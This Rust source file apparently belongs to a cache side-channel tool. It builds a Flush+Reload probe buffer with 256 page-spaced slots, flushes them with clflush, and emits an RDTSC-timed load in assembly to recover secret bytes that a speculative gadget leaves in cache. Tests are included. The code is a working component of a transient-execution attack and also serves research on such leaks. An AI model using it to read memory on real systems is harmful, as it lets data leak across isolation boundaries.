//! The probe buffer and the timed load used to measure it.

use memmap2::MmapMut;
use dynasmrt::{
    dynasm,
    DynasmApi,
    Assembler,
    AssemblyOffset,
    ExecutableBuffer,
    x64::X64Relocation,
};
use iced_x86::{
    Decoder, DecoderOptions, Instruction, Formatter, IntelFormatter
};

use crate::cache::{ LineFlush, Clflush, flush_range };
use crate::error::{ LeakError, Result };

/// Number of slots (one per possible byte value).
pub const ORACLE_SLOTS: usize = 256;

/// Distance between slots.
///
/// Slots are one page apart so that touching one slot never pulls a
/// neighbour in through the adjacent-line or stride prefetchers.
pub const ORACLE_STRIDE: usize = 4096;

/// A 256-slot probe buffer.
///
/// The gadget touches `slot_ptr(secret_byte)`, and the slot left resident in
/// the cache afterwards reveals the byte.
pub struct Oracle {
    map: MmapMut,
}
impl Oracle {
    pub fn new() -> Result<Self> {
        let mut map = MmapMut::map_anon(ORACLE_SLOTS * ORACLE_STRIDE)
            .map_err(LeakError::Oracle)?;

        // Fault in every page. Untouched anonymous pages would all be
        // backed by the same zero page (and share cache lines).
        for idx in 0..ORACLE_SLOTS {
            map[idx * ORACLE_STRIDE] = idx as u8;
        }
        Ok(Self { map })
    }

    /// Return a pointer to the slot for `value`.
    pub fn slot_ptr(&self, value: u8) -> *const u8 {
        unsafe { self.map.as_ptr().add(value as usize * ORACLE_STRIDE) }
    }

    /// Evict every slot from the cache.
    pub fn flush(&self) {
        let base = self.map.as_ptr() as usize;
        flush_range(&Clflush, base, base + self.map.len(), ORACLE_STRIDE);
        Clflush.fence();
    }
}

/// Signature of the emitted probe.
pub type ProbeFn = extern "C" fn(addr: *const u8) -> u64;

/// A serialized, timed load emitted at runtime.
///
/// The load sits between two `LFENCE; RDTSC` pairs so that nothing the
/// compiler (or the out-of-order core) does can move it outside the
/// measured window. The result is the elapsed TSC cycles.
pub struct TimedRead {
    buf: ExecutableBuffer,
    start: AssemblyOffset,
}
impl TimedRead {
    pub fn emit() -> Result<Self> {
        let mut f = Assembler::<X64Relocation>::new()
            .map_err(LeakError::Oracle)?;
        let start = f.offset();
        dynasm!(f
            ; .arch x64
            ; mfence
            ; lfence
            ; rdtsc
            ; shl rdx, 32
            ; or rax, rdx
            ; mov r8, rax

            ; movzx r9, BYTE [rdi]

            ; lfence
            ; rdtsc
            ; shl rdx, 32
            ; or rax, rdx
            ; sub rax, r8
            ; ret
        );
        let buf = f.finalize().map_err(|_| {
            LeakError::Oracle(std::io::Error::new(
                std::io::ErrorKind::Other, "couldn't finalize probe"
            ))
        })?;
        Ok(Self { buf, start })
    }

    pub fn as_fn(&self) -> ProbeFn {
        unsafe { std::mem::transmute(self.buf.ptr(self.start)) }
    }

    /// Time a single load from `addr`.
    pub fn measure(&self, addr: *const u8) -> u64 {
        (self.as_fn())(addr)
    }

    /// Return the disassembly of the probe as `(bytes, instruction)` pairs.
    pub fn disas(&self) -> Vec<(String, String)> {
        let ptr = self.buf.ptr(self.start);
        let buf: &[u8] = unsafe {
            std::slice::from_raw_parts(ptr, self.buf.len() - self.start.0)
        };
        let mut decoder = Decoder::with_ip(64, buf, ptr as u64,
            DecoderOptions::NONE);
        let mut formatter = IntelFormatter::new();
        formatter.options_mut().set_digit_separator("_");

        let mut res = Vec::new();
        let mut instr = Instruction::default();
        while decoder.can_decode() {
            decoder.decode_out(&mut instr);
            let mut istr = String::new();
            formatter.format(&instr, &mut istr);
            let off = (instr.ip() - ptr as u64) as usize;
            let bstr = buf[off..off + instr.len()].iter()
                .map(|b| format!("{:02x}", b))
                .collect::<String>();
            res.push((bstr, istr));
        }
        res
    }
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn slots_are_distinct_pages() {
        let oracle = Oracle::new().unwrap();
        let a = oracle.slot_ptr(0x00) as usize;
        let b = oracle.slot_ptr(0x01) as usize;
        let c = oracle.slot_ptr(0xff) as usize;
        assert_eq!(b - a, ORACLE_STRIDE);
        assert_eq!(c - a, 0xff * ORACLE_STRIDE);
        assert_eq!(unsafe { *oracle.slot_ptr(0x41) }, 0x41);
    }

    #[test]
    fn probe_returns_elapsed_cycles() {
        let oracle = Oracle::new().unwrap();
        let probe = TimedRead::emit().unwrap();
        // Absolute values depend on the part (and on preemption), so only
        // check that the probe runs and the counter moved forward.
        let t = probe.measure(oracle.slot_ptr(7));
        assert!(t > 0, "{}", t);
    }

    #[test]
    fn probe_disassembles() {
        let probe = TimedRead::emit().unwrap();
        let lines = probe.disas();
        assert!(lines.iter().any(|(_, i)| i.starts_with("rdtsc")));
        assert!(lines.last().map(|(_, i)| i == "ret").unwrap_or(false));
    }
}
